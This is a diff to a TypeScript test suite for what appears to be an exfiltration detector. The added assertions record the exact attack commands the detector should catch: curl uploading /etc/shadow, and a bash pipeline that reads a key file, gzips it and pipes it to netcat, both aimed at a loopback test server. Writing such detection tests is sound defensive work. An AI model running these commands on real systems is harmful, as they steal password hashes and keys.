@@ -63,6 +63,7 @@ describe('live: read-then-transmit chains', () => {
     const f = only(r.findings);
     expect(f).toMatchObject({ rule: 'exfil.read-then-transmit', category: 'exfiltration', source: { path: '/etc/shadow', data_class: 'secret' }, sink: { family: 'inet', address: '127.0.0.2', port: http.port } });
     expect(f.process.comm).toBe('curl');
+    expect(f.process.args).toEqual(['curl', '-s', '-m', '10', '-T', '/etc/shadow', url(), '-o', '/dev/null']);
     expect(f.chain[0]).toMatchObject({ object: '/etc/shadow', comm: 'curl' });
     expect(f.chain.at(-1)!.object).toBe(`socket 127.0.0.2:${http.port}`);
     expect(f.latency_ms).toBeGreaterThanOrEqual(0);
@@ -101,6 +102,9 @@ describe('live: read-then-transmit chains', () => {
     const f = only(r.findings);
     expect(f.source.path).toBe(key);
     expect(f.process.comm).toBe('nc');
+    expect(f.process.args).toEqual(['nc', '-N', '127.0.0.2', String(tcp.port)]);
+    // the shell that ran the pipeline started nc
+    expect(f.process.ancestors![0]).toMatchObject({ pid: f.process.ppid, comm: 'bash', args: ['/bin/bash', '-c', `cat ${key} | gzip | nc -N 127.0.0.2 ${tcp.port}`] });
     expect(new Set(f.chain.map((h) => h.comm))).toEqual(new Set(['cat', 'gzip', 'nc']));
     expect(f.summary).toContain('through 3 processes');
   });
